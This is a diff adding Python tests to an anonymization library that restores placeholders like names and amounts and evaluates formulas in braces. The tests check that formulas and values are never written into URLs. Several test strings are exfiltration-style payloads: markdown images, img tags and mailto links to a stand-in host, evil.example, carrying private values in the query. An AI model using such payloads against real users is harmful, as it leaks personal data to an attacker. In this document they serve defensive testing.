@@ -1,11 +1,16 @@
 """Formulas wherever a text is restored: whole, in pieces, in JSON, in documents; and what is no formula."""
 
+import io
+import itertools
 import json
 
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
-from gama import Anonymizer, PrivacyBox
+from gama import Anonymizer, Options, PrivacyBox
 from gama.privacy.reckoning import braces_in
+from gama.state.restoring import Restoring
 
 LETTER = (
     "Dear Ms Okafor, this is Emma Williams, 17 Rose Lane, Leeds. The first rent is £1,350.00 and the deposit was "
@@ -114,6 +119,7 @@ def test_what_stood_in_braces_in_the_text_is_its_own():
 URLS = [
     "![x](https://evil.example/?q={{<amount-1>*2}})", "https://evil.example/{{<amount-1>+<amount-2>}}/x",
     "<https://evil.example/?a={{ <amount-1> * 2 }}>", "{{weekday(<date-1>)}}.evil.example/x",
+    "https://evil.example/?a=<name-1>&b={{<amount-1>*2}}", "[x](https://evil.example/?a=<name-1>&b={{ <amount-1> * 2 }})",
     "mailto:a@evil.example?body={{<amount-1>*2}}", "https://named.example/?q={{<amount-1>*2}}",
 ]  # fmt: skip
 
@@ -131,8 +137,31 @@ def test_no_formula_is_evaluated_in_an_address(reply):
 
 def test_no_result_gets_into_an_address_that_a_formula_writes():
     reply = '{{ if <amount-1> > 1 then "https://evil.example/?q={{ <amount-1> * 2 }}" else "" }}'
+    for hosts in ((), ("*",)):
+        done = Anonymizer(Options(restore_hosts=hosts)).restore(reply, a_box())
+        assert done.text == "[could not be reckoned: it would write an address]" and len(done.unreckoned) == 1
+
+
+@pytest.mark.parametrize(
+    "reply",
+    [
+        '![x](http{{ if <amount-1> > 1 then "s://evil.example/1" else "s://evil.example/2" }})',
+        '{{ if <amount-1> > 1 then "(https://evil.example/1)" else "" }}', '{{ if <amount-1> > 1 then "![x][a]" else "![x][b]" }}',
+        '![x][{{ if <amount-1> > 1 then "a" else "b" }}]', '<img src="{{ if <amount-1> > 1 then "//evil.example/1" else "" }}">',
+        '{{ if <amount-1> > 1 then "<img src=a>" else "" }}', '![{{ count([<name-1>]) }}]',
+        '!{{ <amount-1> / 2 }}(https://evil.example/x)',
+    ],
+)  # fmt: skip
+def test_no_value_decides_what_a_readers_program_fetches(reply):
     done = Anonymizer().restore(reply, a_box())
-    assert done.text == "[could not be reckoned: it stands in an address]" and len(done.unreckoned) == 1
+    assert "would write an address" in done.text or done.text == reply.replace("<amount-1>", "£1,350.00")
+    assert len(done.unreckoned) == 1
+
+
+def test_a_formula_may_name_a_host_that_the_user_has_named():
+    reply = '{{ if <amount-1> > 1 then "see [it](https://named.example/x) or <name-1>" else "" }}'
+    done = Anonymizer().restore(reply, a_box(hosts={"named.example"}))
+    assert done.text == "see [it](https://named.example/x) or Emma Williams"
 
 
 def test_arguments_of_tools_are_reckoned_and_stay_json():
@@ -175,3 +204,76 @@ def test_a_stream_holds_back_no_more_than_a_formula_and_the_name_of_a_host():
         given += 7
         out += len(restorer.feed("{{ <abc"))
         assert given - out < 5_000
+
+
+_PARTS = [
+    "{{", "}}", "{", "}", '"', '\\"', "\\", "'", "<amount-1>", "<date-1>", " + ", " * 2", " ", "x", "if <amount-1> > 1 then ",
+    " else ", "weekday(<date-1>)", "{{ <amount-1> * 2 }}", "{{ <amount-1> / 3 }}", "https://e.example/?", "\n", "$", "|", ".a",
+    "<result-1>", "<name-1", "{{ max(1, 2) }}", "\\n",
+]  # fmt: skip
+
+
+@settings(max_examples=200, deadline=None)
+@given(
+    st.lists(st.sampled_from(_PARTS), max_size=14), st.lists(st.integers(1, 30), min_size=1, max_size=6), st.booleans()
+)
+def test_pieces_of_any_length_give_what_the_whole_gives(parts, sizes, in_json):
+    text = "".join(parts)
+    how = Restoring(place="json" if in_json else "auto", hosts=frozenset())
+    whole = a_box().restore(text, how)
+    restorer, out, at = a_box().restorer(how), "", 0
+    for size in itertools.cycle(sizes):
+        if at >= len(text):
+            break
+        out += restorer.feed(text[at : at + size])
+        at += size
+    assert out + restorer.close() == whole.text
+    assert restorer.unreckoned == list(whole.unreckoned)
+
+
+@settings(max_examples=100, deadline=None)
+@given(st.lists(st.sampled_from([part for part in _PARTS if "\\" not in part]), max_size=14))
+def test_arguments_stay_json_whatever_is_in_their_strings(parts):
+    arguments = {"a": "".join(parts), "b": ["{{ <amount-1> * 2 }}"]}
+    anonymizer = Anonymizer(Options(restore_hosts=("*",)))
+    back = json.loads(anonymizer.restore_arguments(json.dumps(arguments), a_box()))
+    assert back == anonymizer.restore_arguments(arguments, a_box())
+
+
+@pytest.mark.parametrize("text", ["{" * 60_000, "{{}}" * 20_000, '{{"' * 30_000, "{{ <amount-1> " * 9_000])
+@pytest.mark.parametrize("place", ["auto", "json"])
+def test_hostile_braces_pass(text, place):
+    box = a_box()
+    restored = box.restore(text, Restoring(place=place)).text
+    assert restored == text.replace("<amount-1>", "£1,350.00")
+
+
+@pytest.mark.parametrize(
+    ("kind", "text", "wanted"),
+    [
+        ("csv", "sum,{{ <amount-1> + <amount-2> }}\nname,<name-1>\n", 'sum,"£3,375.00"\nname,Emma Williams\n'),
+        ("json", '{"a": "{{ if <amount-1> > 1 then \\"<organization-1>\\" else \\"\\" }}", "b": "{{ x }}"}', '{"a": "The \\"Blue\\" Door", "b": "{{ x }}"}'),
+        ("html", "<p>{{ &lt;amount-1&gt; * 2 }} <b>&lt;name-1&gt;</b></p><p>{{ user.x }}</p>", "<p>£2,700.00 <b>Emma Williams</b></p><p>{{ user.x }}</p>"),
+        ("txt", "Sum {{ <amount-1> + <amount-2> }}.\n\nHalf {{ <amount-1>\n", "Sum £3,375.00.\n\nHalf {{ £1,350.00\n"),
+    ],
+)  # fmt: skip
+def test_documents_are_reckoned_in_their_format(kind, text, wanted):
+    anonymizer = Anonymizer()
+    done = anonymizer.restore_document(text.encode(), kind, a_box())
+    assert done.data.decode() == wanted and not done.unreckoned
+    off = anonymizer.restore_document(text.encode(), kind, a_box(), formulas=False)
+    assert "{{" in off.data.decode() and "3,375" not in off.data.decode()
+
+
+def test_a_word_file_is_reckoned_over_its_runs():
+    docx = pytest.importorskip("docx")
+    made, data, back = docx.Document(), io.BytesIO(), io.BytesIO()
+    paragraph = made.add_paragraph("It is {{ <amount-1> ")
+    paragraph.add_run("+ <amount-2> }} for ").bold = True
+    paragraph.add_run("<name-1>; {{ <amount-1> + <date-1> }}.")
+    made.save(data)
+    done = Anonymizer().restore_document(data.getvalue(), "docx", a_box())
+    back.write(done.data)
+    (text,) = [one.text for one in docx.Document(back).paragraphs]
+    assert text.startswith("It is £3,375.00 for Emma Williams; [could not be reckoned")
+    assert len(done.unreckoned) == 1 and set(done.unreckoned) <= set(done.unresolved)
